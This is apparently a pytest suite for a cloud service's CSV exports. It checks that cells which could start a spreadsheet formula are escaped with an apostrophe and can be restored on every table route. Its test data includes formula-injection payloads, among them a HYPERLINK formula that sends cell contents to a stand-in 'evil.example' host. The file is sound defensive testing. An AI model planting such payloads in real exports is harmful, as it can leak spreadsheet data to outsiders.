"""No text of a table is a formula, on any route that answers in tables, and each can be had again as it was."""

import csv
import io
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from api_cloud import ApiCloud
from builders import MINUTE_MS, NOON_MS
from hypothesis import given, settings
from hypothesis import strategies as st
from stocked import StockCloud, movements

from pledgewatch_cloud.api.tables import CSV, table
from pledgewatch_cloud.certificate import model
from pledgewatch_cloud.table_text import csv_text, guarded, unguarded

BEGINNINGS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    '=HYPERLINK("http://evil.example/"&A1,"stock")',
)
WITHIN = (*(f"a{sign}{one}" for sign in ";,|" for one in ("=1+1", " @x")), 'a;"=1', "a;=1;+2", "'=1", "'apostrophe")
UNSEEN = ("\t=1", " =1", "\u00a0=1", "\u200b=1", "\ufeff@x", "\r=1", "\n+1", "a\t=1", "a\r\n-1", '"=1"', "\x00=1")
HARMLESS = ("a=1", "a-b", "SOFA-3", "a; b", "5", "", "x@y", "it's", "ü")
SIGNS = st.sampled_from(" \t\r\n;,|'\"=+-@＝＋－＠a1\u200b\u00a0")


@pytest.mark.parametrize("text", [*BEGINNINGS, *WITHIN, *UNSEEN])
def test_what_begins_a_formula_is_behind_an_apostrophe(text: str) -> None:
    assert guarded(text) != text
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_begins_none_is_as_it_is(text: str) -> None:
    assert guarded(text) == text


@settings(max_examples=60)
@given(st.text(SIGNS) | st.text())
def test_every_text_can_be_had_again_and_none_of_its_parts_begins_a_formula(text: str) -> None:
    found = guarded(text)
    assert unguarded(found) == text
    for sign in ";,|\t\r\n":
        for part in found.split(sign):
            assert not part.lstrip(' \t\r\n"\u200b\u00a0').startswith(tuple("=+-@＝＋－＠")), (found, sign)


def test_numbers_stay_numbers_and_nothing_stays_empty() -> None:
    found = csv_text(("=a", "b", "c"), [(-5, -0.5, None), ("-5", "+1", "=1")])
    assert found == "'=a,b,c\r\n-5,-0.5,\r\n'-5,'+1,'=1\r\n"


@pytest.mark.parametrize("text", [*BEGINNINGS, *WITHIN, *UNSEEN])
def test_answers_and_certificates_are_guarded_by_the_same_function(monkeypatch: pytest.MonkeyPatch, text: str) -> None:
    assert bytes(table(("a",), [(text,)]).body).decode() == csv_text(("a",), [(text,)])
    assert list(csv.reader(io.StringIO(csv_text((), [(text,)]), newline="")))[1:] == [[guarded(text)]]
    monkeypatch.setattr(model, "guarded", lambda _: "guarded")
    assert model.marks_table(model_with_mark(text))[1] == ("guarded",) * 3


def model_with_mark(text: str) -> Any:
    """What the table of marks is made of."""

    class Marked:
        marks = ((text, text, text),)

    return Marked()


def cells(text: str) -> tuple[list[str], list[dict[str, str]]]:
    """A table's columns and rows."""
    found = csv.DictReader(io.StringIO(text, newline=""))
    rows = list(found)
    return list(found.fieldnames or ()), rows


@pytest.fixture
def cloud(tmp_path: Path) -> Iterator[ApiCloud]:
    made = ApiCloud(tmp_path / "sea", at_ms=NOON_MS + 60 * MINUTE_MS)
    made.sail_into_port()
    yield made
    made.close()


@pytest.fixture
def shop(tmp_path: Path) -> Iterator[StockCloud]:
    made = StockCloud(tmp_path / "shop")
    yield made
    made.close()


def test_a_warehouses_words_arrive_as_words(shop: StockCloud) -> None:
    words = [*BEGINNINGS, *WITHIN]
    answer = shop.post(movements(*({"sku": one, "bin": one} for one in words)))
    assert answer.status_code == 200, answer.text
    found = shop.client.get("/stock/periods", headers={"accept": f"{CSV};q=0.9, */*;q=0.1"})
    assert found.headers["content-type"].startswith(CSV)
    _, rows = cells(found.text)
    goods = shop.get("/stock/periods")["goods"]
    assert len(rows) == len(words)
    assert not {one[name] for one in rows for name in ("sku", "bin")} & set(words)
    assert [(unguarded(one["sku"]), unguarded(one["bin"])) for one in rows] == [
        (one["sku"], one["bin"]) for one in goods
    ]
    assert [int(one["received_milli"]) for one in rows] == [one["periods"][0]["received_milli"] for one in goods]
    below = movements({"identity": "S", "sku": words[0], "bin": words[0], "kind": "sold", "quantity": "99"})
    assert shop.post(below).status_code == 200
    _, rows = cells(shop.client.get("/stock/periods?by=day", params={"sku": words[0]}, headers={"accept": CSV}).text)
    assert int(rows[-1]["closing_milli"]) < 0, "a negative number is no text"


def test_every_route_that_answers_in_tables_is_asked_here(cloud: ApiCloud, monkeypatch: pytest.MonkeyPatch) -> None:
    """Words that come to be named in any answer, even where ids may not be so today: each is behind an apostrophe."""
    document = cloud.get("/openapi.json")
    told = {
        path
        for path, methods in document["paths"].items()
        if CSV in methods.get("get", {}).get("responses", {}).get("200", {}).get("content", {})
    }
    facility, asset = cloud.get("/facilities")[0]["id"], cloud.get("/assets")["features"][0]["id"]
    asked: dict[str, Callable[[], str]] = {
        "/assets": lambda: "/assets",
        "/assets/{asset}/series/{channel}": lambda: f"/assets/{asset}/series/temperature_mc",
        "/facilities/{facility}/lines": lambda: f"/facilities/{facility}/lines",
        "/stock/periods": lambda: "/stock/periods",
    }
    assert set(asked) == told
    seen: list[str] = []

    def noted(text: str) -> str:
        seen.append(text)
        return f"'{text}"

    monkeypatch.setattr("pledgewatch_cloud.table_text.guarded", noted)
    for path in asked.values():
        before = len(seen)
        columns, rows = cells(cloud.client.get(path(), headers={"accept": CSV}).text)
        assert all(one.startswith("'") for one in columns), "written by the one function"
        assert len(seen) > before
        for one in (one for row in rows for one in row.values() if not one.startswith("'")):
            assert one in ("", "True", "False") or float(one) is not None, one
